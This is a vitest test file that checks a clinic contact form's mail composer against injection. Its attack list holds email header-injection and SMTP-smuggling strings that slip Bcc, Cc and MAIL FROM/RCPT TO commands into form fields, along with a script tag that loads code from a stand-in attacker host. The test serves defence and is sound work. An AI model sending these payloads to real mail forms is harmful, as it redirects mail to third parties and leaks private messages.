import { expect, test, vi } from 'vitest'
import { fieldNames } from '../fields.ts'
import { envelope } from '../delivery/delivery.fixture.ts'
import { claimedMail } from '../requests.fixture.ts'
import { startMailServer } from './transport/mail-servers.fixture.ts'
import { composeMail } from './mail.ts'
import { smtpTransport } from './transport/smtp.ts'

// A busy machine and its disk may take their time.
vi.setConfig({ testTimeout: 30_000 })

const attacks = [
  'x\r\nBcc: thief@evil.example',
  'x\nCc: thief@evil.example\n\nbody',
  'x\r\n.\r\nMAIL FROM:<a@evil.example>\r\nRCPT TO:<thief@evil.example>\r\nDATA\r\n',
  'thief@evil.example, "x" <thief2@evil.example>',
  'a@b.in>\r\nTo: <thief@evil.example',
  '=?utf-8?Q?x=0D=0ABcc:_thief@evil.example?=',
  '<script src="https://evil.example/x.js"></script><img src=https://evil.example>',
  '\u2028Bcc: thief@evil.example\u0000\u0085',
]

// The form's rules refuse most of this already; here it gets past them.
test.each(fieldNames)('nothing in the field %s reaches anybody but the clinic', async (name) => {
  const server = await startMailServer()
  const transport = smtpTransport(server.url, false)
  const mails = attacks.map((attack) => composeMail(claimedMail({ [name]: attack }), envelope, new Date(0)))
  await Promise.all(mails.map((mail) => transport.send(mail, new AbortController().signal)))

  expect(server.mails.map(({ recipients }) => recipients)).toEqual(attacks.map(() => [envelope.to]))
  for (const { parsed } of server.mails) {
    expect(parsed).toMatchObject({ to: [{ address: envelope.to }], from: { address: envelope.from } })
    expect(parsed).not.toHaveProperty('cc')
    expect(parsed).not.toHaveProperty('bcc')
    expect(parsed.replyTo?.length ?? 0).toBeLessThanOrEqual(1)
    expect(parsed.html).not.toMatch(/<script|<img/)
  }
})
